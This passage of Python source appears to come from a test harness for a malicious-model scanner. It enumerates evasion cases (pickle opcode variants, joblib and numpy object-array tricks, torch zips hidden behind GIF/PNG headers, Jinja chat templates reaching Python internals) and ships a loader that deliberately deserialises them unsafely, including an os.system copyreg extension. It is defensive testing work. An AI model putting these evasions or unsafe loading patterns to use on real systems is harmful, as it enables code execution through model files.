            f"first-opcode-{n}", f"pickle whose first opcode is {n}", _first_opcode(n), frozenset(P), "pickle"
        )
        for n in FIRST_OPCODE_PICKLES
    ],
    *[
        Attack(
            f"joblib-wrapper-{r}-{a}",
            f"joblib array wrapper made by {r}, alignment {a}",
            _joblib_wrapper(r, a),
            frozenset(P),
            "joblib",
        )
        for r, a in JOBLIB_WRAPPERS
    ],
    *[
        Attack(
            f"joblib-plain-{w}-{p}",
            f"joblib dump whose array {w} bytes pickle.load reads as a {p} payload",
            _joblib_plain(w, p),
            frozenset(P),
            "pickle",
        )
        for w, p in (("array", "global"), ("array", "stack-global"))
    ],
    *[
        Attack(
            f"npy-object-spelling-{i}",
            f"npy v{v} object dtype spelled {s}",
            _npy_spelling(s, v),
            frozenset(P | {"numpy-object-array"}),
            "numpy",
        )
        for i, (s, v) in enumerate(NPY_SPELLINGS)
    ],
    *[
        Attack(
            f"zip-behind-{h}",
            f"torch zip behind a {h.upper()} head",
            _zip_behind(h),
            frozenset(P),
            "zip-member:archive/data.pkl",
        )
        for h in ("gif", "png")
    ],
    Attack(
        "torch-tar-v7",
        "legacy tar checkpoint in v7 format (no ustar magic)",
        torch_tar_v7,
        frozenset(P),
        "torch",
    ),
    *[
        Attack(
            f"template-computed-{v}-{c}",
            f"chat template computing dunder names by {v} ({c})",
            _computed_template(v, c),
            frozenset({"template-reaches-python-internals"}),
            f"template-{c}",
        )
        for v, c in TEMPLATES
    ],
]


def build_attacks(out: Path, markers: Path) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    built: dict[str, Path] = {}
    for a in ATTACKS:
        d = out / a.name
        d.mkdir(parents=True, exist_ok=True)
        built[a.name] = a.build(d, str(markers / a.name))
    return built


LOADER_SCRIPT = r"""
import copyreg, gzip, bz2, lzma, io, json, os, pickle, sys, zipfile
os.environ["HF_HUB_OFFLINE"] = "1"
jobs = json.loads(sys.stdin.read())
def load(kind, path):
    if kind == "pickle":
        with open(path, "rb") as f: pickle.load(f)
    elif kind == "pickle-all":
        with open(path, "rb") as f:
            while f.peek(1) if hasattr(f, "peek") else True:
                pickle.load(f)
    elif kind == "pickle-ext":
        copyreg.add_extension("os", "system", 0xf0)
        with open(path, "rb") as f: pickle.load(f)
    elif kind == "torch":
        import torch; torch.load(path, weights_only=False)
    elif kind == "numpy":
        import numpy as np
        r = np.load(path, allow_pickle=True)
        if hasattr(r, "files"):
            for k in r.files: r[k]
    elif kind == "joblib":
        import joblib; joblib.load(path)
    elif kind.endswith("-pickle"):
        op = {"gzip": gzip.open, "bz2": bz2.open, "xz": lzma.open}[kind.split("-")[0]]
        with op(path, "rb") as f: pickle.load(f)
    elif kind.startswith("zip-member:"):
        with zipfile.ZipFile(path) as z: pickle.loads(z.read(kind.split(":", 1)[1]))
    elif kind.startswith("template-"):  # rendered by plain (unsandboxed) Jinja, as a careless server would
        import jinja2
        with open(path) as f: text = f.read()
        if kind == "template-json": text = json.loads(text)["chat_template"]
        jinja2.Environment().from_string(text).render(messages=[{"role": "user", "content": "hi"}])
for kind, path in jobs:
    try:
        load(kind, path)
    except BaseException:
        pass
"""
